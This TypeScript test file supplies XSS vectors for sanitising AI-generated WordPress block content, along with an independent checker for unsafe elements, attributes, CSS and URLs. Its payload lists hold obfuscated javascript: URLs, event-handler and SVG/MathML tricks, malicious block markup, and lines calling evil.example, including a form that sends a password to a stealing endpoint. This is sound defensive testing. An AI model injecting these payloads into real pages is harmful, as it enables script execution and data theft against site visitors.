// XSS vectors for every path that turns AI output into blocks, and a check of what a
// result holds that could run, load or submit something. The check is written apart from
// the sanitiser (its own reading of URLs and elements), so the tests do not grade the
// sanitiser by its own rules.
import { parse } from '@wordpress/block-serialization-default-parser';

/** URLs a link must never keep, in the spellings that get past naive checks. */
export const BAD_URLS: readonly string[] = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	' javascript:alert(1)',
	'\tjavascript:alert(1)',
	'\u0001javascript:alert(1)',
	'\u0000javascript:alert(1)',
	'\u00a0javascript:alert(1)',
	'java\tscript:alert(1)',
	'java\nscript:alert(1)',
	'java\rscript:alert(1)',
	'java&#x09;script:alert(1)',
	'java&Tab;script:alert(1)',
	'&#106;avascript:alert(1)',
	'&#x6A;avascript:alert(1)',
	'&#0000106avascript:alert(1)',
	'jav&#x61;script:alert(1)',
	'javascript&colon;alert(1)',
	'&#1;javascript:alert(1)',
	'javascript://%0aalert(1)',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'DATA:text/html,<script>alert(1)</script>',
	' data:image/svg+xml,<svg onload=alert(1)>',
	'vbscript:msgbox(1)',
];

const attribute = (value: string): string =>
	value.replace(/&(?![#a-z0-9]+;?)/gi, '&amp;').replace(/"/g, '&quot;');

/** HTML that must come out of a rich-text attribute harmless; each sits between harmless words. */
export const HTML_VECTORS: readonly string[] = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<img src="https://evil.example/pixel.png?q=secret" alt="pixel">',
	'<svg onload=alert(1)><circle r="1"/></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="javascript:alert(1)">',
	'<style>body{background:url(javascript:alert(1))}</style>',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="javascript:alert(1)//">',
	'<form action="https://evil.example/steal"><input type="password" name="p"><button formaction="javascript:alert(1)">Go</button></form>',
	'<input autofocus onfocus=alert(1)>',
	'<details open ontoggle=alert(1)>x</details>',
	'<strong onclick="alert(1)">bold <em onmouseover="alert(1)">nested</em></strong>',
	'<a href="https://example.com/ok" onclick="alert(1)">ok</a>',
	'<span style="background:url(javascript:alert(1))">styled</span>',
	'<mark style="behavior:url(x.htc)" class="has-inline-color">marked</mark>',
	'<a xlink:href="javascript:alert(1)">x</a>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
	'<template><img src=x onerror=alert(1)></template>',
	'<video><source onerror=alert(1)></video>',
	'<p onclick=alert(1)>inner paragraph</p>',
	...BAD_URLS.map((url) => `<a href="${attribute(url)}">link</a>`),
];

/**
 * Vectors after which happy-dom's parser (unlike a browser's) puts the following text inside
 * the vector's element, where it is dropped with it: tests expect only the text before them.
 */
export const SWALLOWS_TEXT_AFTER: ReadonlySet<string> = new Set(['<svg><script>alert(1)</script></svg>']);

/** Block markup a reply in block syntax may hold that must not reach the post as it is. */
export const BLOCK_VECTORS: readonly string[] = [
	'<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->',
	'<!-- wp:html -->\n<img src=x onerror=alert(1)>\n<!-- /wp:html -->',
	'<script>alert(1)</script>',
	'<!-- wp:freeform --><p onclick="alert(1)">classic</p><!-- /wp:freeform -->',
	'<!-- wp:core/missing {"originalName":"acme/x"} --><script>alert(1)</script><!-- /wp:core/missing -->',
	'<!-- wp:acme/unknown --><img src=x onerror=alert(1)><!-- /wp:acme/unknown -->',
	'<!-- wp:image {"url":"javascript:alert(1)"} -->\n<figure class="wp-block-image"><img src="javascript:alert(1)" alt=""/></figure>\n<!-- /wp:image -->',
	'<!-- wp:paragraph {"style":{"color":{"background":"url(javascript:alert(1))"}},"className":"x\\" onmouseover=\\"alert(1)"} -->\n<p>styled</p>\n<!-- /wp:paragraph -->',
	'<!-- wp:list {"ordered":true,"type":"x;background:url(javascript:alert(1))"} -->\n<ol style="list-style-type:x;background:url(javascript:alert(1))"><!-- wp:list-item -->\n<li>item</li>\n<!-- /wp:list-item --></ol>\n<!-- /wp:list -->',
	'<!-- wp:quote -->\n<blockquote class="wp-block-quote"><!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html --></blockquote>\n<!-- /wp:quote -->',
];

/** Markdown replies with raw HTML and unsafe links. */
export const MARKDOWN_VECTORS: readonly string[] = [
	...HTML_VECTORS.map((html) => `Harmless ${html} words`),
	...BAD_URLS.map(
		(url) => `Harmless [link](${url.replace(/[()\s]/g, (c) => encodeURIComponent(c))}) words`
	),
	'Harmless <javascript:alert(1)> words',
	'Harmless ![x](javascript:alert(1)) words',
	'Harmless [link][ref] words\n\n[ref]: javascript:alert(1)',
	'<div onclick="alert(1)">\n\nHarmless words\n\n</div>',
];

/** The start of a tag, a comment or a declaration, as an HTML parser reads one in text. */
export const MARKUP = /<[a-z!?]|<\/[a-z]/i;

/** Elements that run, load or submit something; none may come out of AI output. */
const UNSAFE_ELEMENTS: ReadonlySet<string> = new Set([
	'script',
	'style',
	'link',
	'meta',
	'base',
	'iframe',
	'frame',
	'frameset',
	'object',
	'embed',
	'applet',
	'svg',
	'math',
	'form',
	'img',
	'video',
	'audio',
	'source',
	'template',
	'noscript',
]);

/** Attributes whose value is fetched or navigated to. */
const URL_ATTRIBUTES: ReadonlySet<string> = new Set([
	'href',
	'src',
	'srcset',
	'action',
	'formaction',
	'data',
	'poster',
	'background',
	'xlink:href',
	'cite',
]);

/** CSS that fetches or runs something (a style of the blocks' own, such as a border radius, is fine). */
const UNSAFE_CSS = /url\s*\(|expression\s*\(|javascript:|behavior\s*:|@import|-moz-binding/i;

/** A URL that runs code or is not http(s)/mailto/relative, read as loosely as any browser would. */
function isUnsafeUrl(value: string): boolean {
	// Spaces around it, and control characters (tabs and newlines among them) anywhere, are
	// what URL parsers skip.
	const squashed = value
		.replace(/\p{Cc}+/gu, '')
		.trim()
		.toLowerCase();
	const scheme = /^([a-z][a-z0-9+.-]*):/.exec(squashed)?.[1];
	return scheme !== undefined && !['http', 'https', 'mailto'].includes(scheme);
}

/** What an HTML fragment holds that could run, load or submit something, as readable lines. */
export function unsafeHtml(html: string): string[] {
	const body = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html').body;
	const found: string[] = [];
	for (const element of Array.from(body.querySelectorAll('*'))) {
		const tag = element.tagName.toLowerCase();
		if (UNSAFE_ELEMENTS.has(tag)) {
			found.push(`<${tag}>`);
		}
		for (const { name, value } of Array.from(element.attributes)) {
			const lower = name.toLowerCase();
			if (lower.startsWith('on')) {
				found.push(`${tag}[${name}]`);
			} else if (lower === 'srcdoc' || (lower === 'style' && UNSAFE_CSS.test(value))) {
				found.push(`${tag}[${name}="${value}"]`);
			} else if (URL_ATTRIBUTES.has(lower) && isUnsafeUrl(value)) {
				found.push(`${tag}[${name}="${value}"]`);
			}
		}
	}
	return found;
}

type ParsedBlock = ReturnType<typeof parse>[number];

/** Every string in a block comment's attributes, at any depth, with the key it is under. */
function stringsIn(value: unknown, key = ''): Array<readonly [key: string, text: string]> {
	if (typeof value === 'string') {
		return [[key, value]];
	}
	if (typeof value === 'object' && value !== null) {
		return Object.entries(value).flatMap(([inner, item]) =>
			stringsIn(item, Array.isArray(value) ? key : inner)
		);
	}
	return [];
}

function unsafeInBlocks(blocks: readonly ParsedBlock[], allowedNames: ReadonlySet<string>): string[] {
	return blocks.flatMap((block) => {
		const found: string[] = [];
		if (block.blockName === null) {
			if (block.innerHTML.trim() !== '') {
				found.push(`text outside blocks: ${block.innerHTML.trim()}`);
			}
		} else if (!allowedNames.has(block.blockName)) {
			found.push(`block ${block.blockName}`);
		}
		for (const [key, text] of stringsIn(block.attrs)) {
			const isUrl = /url|href|src|link/i.test(key);
			if ((isUrl && isUnsafeUrl(text)) || /url\s*\(|<script|<\w[^>]*\son\w+\s*=/i.test(text)) {
				found.push(`${block.blockName ?? 'freeform'} attribute "${text}"`);
			}
		}
		return [...found, ...unsafeInBlocks(block.innerBlocks, allowedNames)];
	});
}

/**
 * What serialized block markup holds that could run, load or submit something: unsafe
 * elements, `on…` and `srcdoc` attributes, styles with `url(…)` and the like, URLs other than http(s), mailto and
 * relative ones (in the HTML or in the block comments' attributes), blocks not in
 * `allowedNames` (so `core/html` and `core/freeform`), and text outside blocks. Empty when
 * the markup is harmless.
 */
export function unsafeMarkup(markup: string, allowedNames: Iterable<string>): string[] {
	return [...unsafeHtml(markup), ...unsafeInBlocks(parse(markup), new Set(allowedNames))];
}
